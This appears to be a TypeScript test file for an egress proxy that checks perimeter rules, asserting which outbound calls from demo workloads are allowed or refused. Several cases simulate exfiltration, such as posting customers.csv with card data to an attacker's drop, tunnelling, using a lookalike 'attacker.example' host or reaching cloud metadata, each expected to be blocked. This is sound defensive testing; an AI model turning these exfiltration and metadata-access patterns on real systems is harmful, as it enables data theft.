import type { Story } from '../check.ts'
import { hosts } from '../visits.ts'
import { openTunnel, secure, send, sendOver, type Answer } from '../web-client.ts'
import type { World } from '../world.ts'

/** Outbound to the world, through the forward proxy of each member. */

const allowedByRule = 'NspPublicOutboundPerimeterRulesAllowed'
const deniedByPerimeter = 'NspPublicOutboundPerimeterRulesDenied'

export const enforcedOutbound: Story = {
  title: 'Who gets out: orders is Enforced',
  about:
    'Its workload has HTTP_PROXY set and can call the hosts that a rule names, on the ports that rules cover. ' +
    'Nothing is resolved or dialled before it is allowed.',
  checks: ({ world }) => [
    {
      tried: 'orders calls the payments host over http',
      expect: '200 access-rule',
      categories: [allowedByRule],
      act: async () => viaOrders(world, `${hosts.payments}:${world.services.payments.port}`),
    },
    {
      tried: 'orders calls it over https (CONNECT)',
      expect: '200 access-rule',
      categories: [allowedByRule],
      act: async () => payOverTls(world),
    },
    {
      tried: "orders posts customers.csv to the attacker's drop",
      expect: '403 no-matching-rule',
      categories: [deniedByPerimeter],
      act: async () =>
        send({
          method: 'POST',
          url: `http://${hosts.drop}:${world.services.drop.port}/customers.csv`,
          proxyPort: world.ports.ordersEgress,
          body: 'name,card\n',
        }),
      also: ({ answer }) =>
        answer?.body.includes('suggestedRule') === true
          ? undefined
          : 'the refusal does not say which rule would allow it',
    },
    {
      tried: 'the same through a tunnel',
      expect: '403 no-matching-rule',
      categories: [deniedByPerimeter],
      act: async () =>
        openTunnel(world.ports.ordersEgress, `${hosts.drop}:${world.services.drop.port}`),
    },
    {
      tried: "the same by the drop's address",
      expect: '403 no-matching-rule',
      categories: [deniedByPerimeter],
      act: async () => viaOrders(world, `127.0.0.1:${world.services.drop.port}`),
    },
    {
      tried: 'a name that only begins like the payments host',
      expect: '403 no-matching-rule',
      categories: [deniedByPerimeter],
      act: async () => viaOrders(world, `${hosts.payments}.attacker.example`),
    },
    {
      tried: 'the payments host on a port that no rule covers',
      expect: '403 port-not-allowed',
      categories: [deniedByPerimeter],
      act: async () => viaOrders(world, `${hosts.payments}:22`),
    },
    {
      tried: 'an allowed name that leads to cloud metadata',
      expect: '403 address-not-public',
      categories: [deniedByPerimeter],
      act: async () => viaOrders(world, 'metadata.demo.example'),
    },
    {
      tried: 'an allowed host that is down',
      expect: '502 connect-refused',
      categories: [allowedByRule],
      act: async () => viaOrders(world, `${hosts.down}:${world.ports.closed}`),
    },
    {
      tried: 'a workload that no listener speaks for',
      expect: '403 unknown-caller',
      categories: ['-'],
      act: async () =>
        send({
          url: `http://${hosts.payments}:${world.services.payments.port}/`,
          proxyPort: world.ports.strayEgress,
        }),
    },
  ],
}

export const learningOutbound: Story = {
  title: 'Learning lets out what no rule names, and still guards addresses',
  about: 'The guard is no access rule: a name that leads inside is refused in every access mode.',
  checks: ({ world }) => [
    {
      tried: 'search fetches updates, which no rule names',
      expect: '200 learning-mode',
      categories: ['NspPublicOutboundResourceRulesAllowed'],
      act: async () => viaSearch(world, `${hosts.updates}:${world.services.updates.port}`),
    },
    {
      tried: 'search calls a name that leads to 10.0.0.5',
      expect: '403 address-not-public',
      categories: ['NspPublicOutboundResourceRulesDenied'],
      act: async () => viaSearch(world, 'intranet.demo.example'),
    },
    {
      tried: 'search calls a name that does not resolve',
      expect: '502 dns-failed',
      categories: ['NspPublicOutboundResourceRulesAllowed'],
      act: async () => viaSearch(world, 'nowhere.demo.example'),
    },
  ],
}

async function viaOrders(world: World, authority: string): Promise<Answer> {
  return send({ url: `http://${authority}/`, proxyPort: world.ports.ordersEgress })
}

async function viaSearch(world: World, authority: string): Promise<Answer> {
  return send({ url: `http://${authority}/`, proxyPort: world.ports.searchEgress })
}

async function payOverTls(world: World): Promise<Answer> {
  const authority = `${hosts.payments}:${world.services.payments.tlsPort}`
  const opened = await openTunnel(world.ports.ordersEgress, authority)
  if (opened.kind === 'answer') return opened.answer
  const stream = secure(opened.stream, {
    name: hosts.payments,
    certificate: world.certificate.text,
  })
  return sendOver(stream, { url: `https://${authority}/pay`, method: 'POST', body: '12 EUR' })
}
